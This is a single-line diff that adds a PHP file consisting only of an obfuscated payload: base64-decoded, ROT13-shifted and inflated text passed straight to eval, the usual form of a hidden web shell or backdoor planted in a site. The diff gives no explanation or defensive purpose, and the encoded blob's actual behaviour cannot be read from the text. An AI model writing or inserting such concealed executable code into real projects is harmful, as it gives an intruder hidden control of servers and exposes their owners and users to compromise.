@@ -1,0 +1,1 @@
+<?php eval(gzinflate(str_rot13(base64_decode("7X1rcxs5kuB3/gp0h2YpjWlakpvT3bIljayH7R2/TrRmz+/obTDnf5aoqlDbaaE5tKvrefwIkFCtwmyz9JJAkaSoAxGfKkh+NatDhUSrVaQLOyYu9NbHK4jcvbT0KUqc2pNpVKcGl2Mg3YNjStj4NJ7svrlyL4KqJdvbKsMPIa0p2qypV4j6HXp2Q5q8qjyrqDs96sSpG0K0qM4ZR4qVqk"))); ?>
